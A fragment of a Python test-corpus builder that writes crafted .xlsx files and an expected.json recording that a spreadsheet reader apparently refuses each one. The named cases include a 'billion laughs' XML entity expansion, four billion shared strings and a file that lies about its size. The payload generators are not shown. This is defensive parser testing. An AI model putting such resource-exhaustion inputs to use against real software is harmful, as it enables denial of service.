    "own_custom_laughs.xlsx": (own(_custom_laughs), True, ("docProps/custom.xml", "billion laughs")),
    "own_huge_strings.xlsx": (own(_huge_strings), True, ("xl/sharedStrings.xml", "4,000,000,000 shared strings")),
    "own_lying_size.xlsx": (own_lying_size, True, ("more than its declared size",)),
    "own_candidates_is_metadata.xlsx": (own(_candidates_is_metadata), True, ("Candidates",)),
}


Cases = dict[str, tuple[Callable[[], bytes], bool, tuple[str, ...]]]


def build(cases: Cases | None = None) -> dict[str, bytes]:
    """Every corpus file (``own.xlsx`` as committed) and ``expected.json``
    (of ``cases``: this corpus's unless given)."""
    cases = CASES if cases is None else cases
    files = {name: make() for name, (make, _, _) in cases.items()}
    expected = {name: {"refused": refused, "phrases": list(phrases)}
                for name, (_, refused, phrases) in cases.items()}
    files["expected.json"] = (json.dumps(expected, indent=1, sort_keys=True) + "\n").encode()
    return files


def write(out: Path, cases: Cases) -> None:
    """Write the corpus of ``cases`` into ``out``."""
    out.mkdir(parents=True, exist_ok=True)
    for name, data in build(cases).items():
        assert len(data) < 200_000, (name, len(data))
        (out / name).write_bytes(data)
    print(f"wrote {len(cases)} files and expected.json into {out}")


def main() -> None:
    if "--own" in sys.argv[1:]:
        write_own()
    write(OUT, CASES)


if __name__ == "__main__":
    main()
